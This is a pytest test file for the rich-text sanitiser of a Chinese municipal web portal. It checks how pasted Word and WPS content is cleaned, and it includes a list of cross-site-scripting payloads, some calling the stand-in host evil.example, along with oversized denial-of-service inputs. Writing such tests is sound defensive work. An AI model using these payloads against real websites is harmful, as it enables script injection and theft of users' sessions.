"""What is pasted from Word and WPS comes out clean, what is hostile comes out harmless, and cleaning ends at once."""

import re
import time
from contextlib import suppress
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from linhai_portal import rich_text
from linhai_portal.rich_text import tokens

SAMPLES = Path(__file__).parent.parent / "data" / "pasted"


def is_own(src):
    return re.fullmatch(r"/pictures/[\w-]+\.png", src) is not None


def clean(html):
    return rich_text.clean(html, is_own_picture=is_own)


def sample(name):
    return (SAMPLES / name).read_text(encoding="utf-8")


def test_a_notice_of_word_keeps_its_words_and_structure_only():
    assert clean(sample("word-notice.html")) == "\n".join(
        [
            '<p class="doc-center"><strong>临海市教育局关于做好2026年义务教育阶段学校招生工作的通知</strong></p>',
            '<p class="doc-flush">各镇中心校，市直各学校：</p>',
            "<p>为做好2026年招生工作，现就有关事项通知如下：</p>",
            "<h2>一、招生对象</h2>",
            "<p>（一）年满6周岁的适龄儿童。</p>",
            "<ol>",
            "<li>具有本市户籍的；",
            "<ul>",
            "<li>随父母落户的</li>",
            "<li>随祖父母落户的</li>",
            "</ul></li>",
            "<li>持有<strong>居住证</strong>的。</li>",
            "</ol>",
            "<p>报名时间为6月20日。</p>",
            "<ol>",
            "<li>带户口簿。</li>",
            "</ol>",
            "<p>面积100 m<sup>2</sup>以上。</p>",
            '<p>详见<a href="https://www.zj.gov.cn/art/2026/3/1/a.html">省教育厅通知</a>[1]。</p>',
            '<p class="doc-right">临海市教育局</p>',
            '<p class="doc-right">2026年3月5日</p>',
            "<p>（此件公开发布）</p>",
        ]
    )


def test_a_table_of_word_keeps_its_merged_cells_and_its_head():
    assert clean(sample("word-table.html")) == "\n".join(
        [
            "<table>",
            "<thead>",
            '<tr><th class="doc-center" scope="col">学校</th><th class="doc-center" colspan="2" scope="col">计划</th></tr>',
            "</thead>",
            "<tbody>",
            '<tr><td rowspan="2">哲商小学</td><td>一年级</td><td class="doc-right">240</td></tr>',
            '<tr><td>七年级</td><td class="doc-right">320</td></tr>',
            "<tr><td>大田小学</td><td>一年级</td><td><p>160</p>\n<p>（含分校）</p></td></tr>",
            "</tbody>",
            "</table>",
        ]
    )


def test_a_notice_of_wps_finds_the_signature_made_by_blanks_and_parts_the_lines():
    assert clean(sample("wps-notice.html")) == "\n".join(
        [
            '<p class="doc-center"><strong>关于公布惠企资金清单的公告</strong></p>',
            "<p>根据有关规定，现将清单公布如下。</p>",
            "<p>第二段在同一段里换行。</p>",
            "<ol>",
            "<li>技术改造补助</li>",
            "<li>首台套奖励</li>",
            "</ol>",
            '<p>下图为流程：<img src="/pictures/flow-1.png" alt="申请、初审、公示、拨付四步"></p>',
            '<p class="doc-right">临海市经济和信息化局</p>',
            '<p class="doc-right">2026年4月1日</p>',
        ]
    )


TWO_ROWS = '<table>\n<thead>\n<tr><th scope="col">甲</th></tr>\n</thead>\n<tbody>\n<tr><td>乙</td></tr>\n</tbody>\n</table>'


@pytest.mark.parametrize(
    ("pasted", "kept"),
    [
        ("<p>旧<del cite='mailto:a'>价十元</del><ins>价八元</ins></p>", "<p>旧价八元</p>"),
        ("<p><span class=msoDel>删</span><span class=msoIns>增</span></p>", "<p>增</p>"),
        ("<p>看<span style='mso-hide:all;display:none'>不见</span></p>", "<p>看</p>"),
        ("<p>字<a class=msocomanchor href='#c'>[批注1]</a></p>", "<p>字</p>"),
        ("<p>字</p><div style='mso-element:comment-list'><p>请核实</p></div>", "<p>字</p>"),
        (
            "<p><span style='font-weight:bold'>粗</span><b style='font-weight:normal'>细</b></p>",
            "<p><strong>粗</strong>细</p>",
        ),
        ("<div align=right>落款</div>", '<p class="doc-right">落款</p>'),
        ("<center>题</center>", '<p class="doc-center">题</p>'),
        ("<p>图<img src='file:///C:/image001.png'></p>", "<p>图</p>"),
        ("<p>　　姓　名：</p>", "<p>姓　名：</p>"),
        ("<p>&nbsp;</p><p><o:p></o:p></p><p>  　</p>", ""),
        ("<h1>甲</h1><h4>乙</h4><h2>丙</h2>", "<h2>甲</h2>\n<h3>乙</h3>\n<h3>丙</h3>"),
        ("<p class=MsoHeading7>一、总则</p>", "<p>一、总则</p>"),
        ("<table><tr><td><p>框</p></td></tr></table>", "<p>框</p>"),
        (
            "<table><tr><td>外<table><tr><td>甲<td>乙<tr><td>丙</table><td>右</table>",
            "<table>\n<tbody>\n<tr><td><p>外</p>\n<p>甲 乙</p>\n<p>丙</p></td><td>右</td></tr>\n</tbody>\n</table>",
        ),
        (
            "<p class=doc-caption>表1</p><table><tr><th>甲<th>乙<tr><td>1<td>2</table>",
            '<table>\n<caption>表1</caption>\n<thead>\n<tr><th scope="col">甲</th><th scope="col">乙</th></tr>\n</thead>\n'
            "<tbody>\n<tr><td>1</td><td>2</td></tr>\n</tbody>\n</table>",
        ),
        (
            "<p class=doc-caption>丢不得</p><table><caption>表1</caption><tr><td>1<td>2</table>",
            "<p>丢不得</p>\n<table>\n<caption>表1</caption>\n<tbody>\n<tr><td>1</td><td>2</td></tr>\n</tbody>\n</table>",
        ),
        ("<h2><blockquote>引文</blockquote></h2>", "<blockquote>\n<p>引文</p>\n</blockquote>"),
        ("<table><thead><th rowspan=2>甲<tr><tr><td>乙</table>", TWO_ROWS),
        ("<ol start=3><li><p>三</p><li>四</ol>", '<ol start="3">\n<li>三</li>\n<li>四</li>\n</ol>'),
        ("<ul><li>甲<ul><li>乙</ul></ul>", "<ul>\n<li>甲\n<ul>\n<li>乙</li>\n</ul></li>\n</ul>"),
        ("甲\n\n乙<h2>丙</h2>丁", "<p>甲</p>\n<p>乙</p>\n<h2>丙</h2>\n<p>丁</p>"),
    ],
)
def test_what_stays_of(pasted, kept):
    assert clean(pasted) == kept


@pytest.mark.parametrize("marker", ["一、", "（一）", "（1）", "①", "第一条"])
def test_a_numbering_by_which_a_document_is_cited_stays_text(marker):
    pasted = f"<p style='mso-list:l0 level1 lfo1'><span style='mso-list:Ignore'>{marker}</span>总则</p>"
    assert clean(pasted) == f"<p>{marker}总则</p>"


HOSTILE = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='/pictures/a.png' alt='x' onload=alert(1) style=position:fixed>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVa&#x09;Script:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/\\evil.example'>x</a>",
    "<a href='https://user:pw@evil.example/'>x</a>",
    "<svg><script>alert(1)</script><p>x</svg>",
    "<svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form action=//evil.example><input name=p><button>x</button><textarea><b></textarea></form>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x><embed src=x></object>",
    "<style>@import '//evil.example'</style><link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example>",
    "<p style='background:url(javascript:alert(1))' class='doc-right evil'>x</p>",
    "<div onmouseover='alert(1)'>x</div>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    "<xml><script>alert(1)</script></xml>",
    "<template><script>alert(1)</script></template>",
    "<p>\u202egpj.exe\u202c\ud800\x00</p>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]


def assert_allowed_only(html):
    """Read as a browser would, nothing in it is beyond the list."""
    for tag in tokens.tokens(html):
        if isinstance(tag, tokens.Tag):
            assert tag.name in rich_text.cleaning.TAGS
            names = set(tag.attributes) - {"class"}
            assert names <= rich_text.cleaning.ATTRIBUTES.get(tag.name, set())
            assert tag.attributes.get("class", "doc-right") in {"doc-right", "doc-center", "doc-flush"}
            assert re.match(
                r"https?://[\w.-]+(?:[:/?#]|$)|mailto:|tel:|/(?![/\\])|$", tag.attributes.get("href", "")
            )
            assert is_own(tag.attributes.get("src", "/pictures/a.png"))


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_hostile_passes(html):
    cleaned = clean(f"<p>甲</p>{html}<p>乙</p>")
    assert_allowed_only(cleaned)
    assert "甲" in cleaned
    assert clean(cleaned) == cleaned


@pytest.mark.parametrize("html", HOSTILE)
def test_what_was_stored_past_the_form_is_harmless_when_shown(html):
    assert not re.search(
        r"<[^>]*(?:script|onerror|onload|javascript:|style=)", rich_text.sanitise(html), re.IGNORECASE
    )


PIECES = """
    <p> </p> <b> </b> <i> <span> </span> <strong> </strong> <sub> <sup> </sup> <br> <hr> <ul> </ul> <ol> <li> </li> </ol>
    <table> </table> <tr> </tr> <td> </td> <th> </th> <thead> </thead> <tbody> <caption> </caption> <td|colspan=3> <td|rowspan=3>
    <th|rowspan=2> <h1> </h1> <h3> <h6> <blockquote> </blockquote> <div> </div> <div|align=right> <p|class=doc-center>
    <p|class=doc-caption> <a|href=/x> <a|href=http://a.b/c?d=1&e> </a> <img|src=/pictures/a.png> <img|src=/pictures/b.png|alt=图>
    <p|class=MsoNormal> <p|style="mso-list:l0|level1"> <p|style="mso-list:l0|level3"> <span|style="mso-list:Ignore">1.</span>
    <span|style="mso-list:Ignore">·</span> <span|style="mso-list:Ignore">一、</span> <b|style="font-weight:normal"> <del> </del>
    <svg> </svg> <o:p> </o:p> <!--x--> <![if|x]> <script> </script> 甲 乙。 a | || &nbsp; &lt;b&gt; &amp; : ： <
"""
BLANKS = [" ", "\n", "\n\n", "甲\n乙", "\u3000", "\u3000" * 9]
PIECE = st.sampled_from([*(piece.replace("|", " ") for piece in PIECES.split()), *BLANKS])
MARKUP = st.lists(PIECE | st.text(max_size=4), max_size=40).map("".join)


@given(MARKUP)
def test_cleaning_twice_is_cleaning_once(html):
    once = clean(html)
    assert clean(once) == once
    assert rich_text.sanitise(once, is_own_picture=is_own) == once
    assert_allowed_only(once)


@given(st.text())
def test_any_text_can_be_cleaned(text):
    once = clean(text)
    assert clean(once) == once
    typed = clean(rich_text.from_plain(text))
    assert clean(typed) == typed


def test_text_typed_without_tags_becomes_paragraphs():
    typed = "　　第一段，a < b。\n\n　　第二段 & 其他。\n"
    assert not rich_text.has_markup(typed)
    assert clean(rich_text.from_plain(typed)) == "<p>第一段，a &lt; b。</p>\n<p>第二段 &amp; 其他。</p>"


@pytest.mark.parametrize(
    ("html", "addresses"),
    [
        ("<img src='/pictures/a.png'>", ["/pictures/a.png"]),
        ("<img src='/pictures/a.png' alt='image001.png'>", ["/pictures/a.png"]),
        ("<img src='/pictures/a.png' alt='图片 1'>", ["/pictures/a.png"]),
        ("<table><tr><td><img src='/pictures/a.png' alt='  '><td>x</table>", ["/pictures/a.png"]),
        ("<img src='/pictures/a.png' alt='学区划分图：以灵江为界'>", []),
    ],
)
def test_a_picture_that_nobody_described_is_named(html, addresses):
    assert rich_text.missing_alt(clean(html)) == addresses


def test_pictures_of_elsewhere_are_counted_before_they_are_lost():
    html = "<img src='file:///C:/1.png'><img src='/pictures/a.png'><img src='data:image/png;base64,AA'>"
    assert rich_text.lost_pictures(html, is_own_picture=is_own) == 2


def test_anchors_follow_the_words_not_the_place():
    html = "<h2>总则</h2><h2>附则</h2><h3>总则</h3>"
    pairs = rich_text.outline(html)
    marked = rich_text.with_anchors(html)
    assert [title for _, title in pairs] == ["总则", "附则", "总则"]
    assert re.findall(r'<h\d id="([^"]+)">', marked) == [anchor for anchor, _ in pairs]
    assert len({anchor for anchor, _ in pairs}) == 3
    assert rich_text.outline("<h2>前言</h2>" + html)[1:] == pairs


def test_plain_text_reads_line_by_line():
    html = "<h2>一</h2><p>甲<br>乙</p><ol start=2><li>丙</ol><table><tr><td>1<td><p>2</p><p>3</p></table>"
    assert rich_text.plain_text(html) == "一\n甲\n乙\n2. 丙\n1\t2 3"


def test_links_out_of_the_site_are_listed_once():
    html = "<a href='https://www.gov.cn/政策'>甲</a><a href='/help/'>乙</a><a href='https://www.gov.cn/政策'>丙</a>"
    assert rich_text.external_links(html) == ["https://www.gov.cn/%E6%94%BF%E7%AD%96"]


def test_a_page_shows_tables_in_a_frame_with_a_name():
    page = rich_text.for_page("<script>x</script><table><caption>表1</caption><tr><td>甲<td>乙</table>")
    assert page.startswith('<div class="doc-scroll" role="region" aria-label="表1" tabindex="0">\n<table>')


@pytest.mark.parametrize(
    "html",
    [
        "<table><tr>" + "<td>x" * 101 + "</table>",
        "<table>" + ("<tr>" + "<td>x" * 50) * 401 + "</table>",
        "<p>" + "字" * 1_000_001,
        "<b>" * 200_001,
        " " * 5_000_001,
    ],
)
def test_what_is_too_large_is_refused_with_what_to_do(html):
    with pytest.raises(rich_text.Refused, match="请"):
        clean(html)


@pytest.mark.parametrize(
    "html",
    [
        "<b>" * 190_000,
        "<p>x" * 90_000,
        "<table><tr><td>" * 60_000,
        "<ul><li>" * 90_000,
        "".join(f"<font size={n}>" for n in range(50_000)) + "<p>x" * 50_000,
        '<a "<a>" ' * 90_000 + '"',
        "<!--" * 1_200_000,
        "<a x" + "=" * 4_900_000 + ">",
        "&" * 900_000,
    ],
    ids=["marks", "paragraphs", "tables", "lists", "fonts", "quotes", "comments", "attributes", "references"],
)
def test_five_megabytes_of_anything_end_in_seconds(html):
    """Each takes about a second or three; a quadratic way would take hours."""
    start = time.process_time()
    with suppress(rich_text.Refused):
        clean(html)
    assert time.process_time() - start < 30
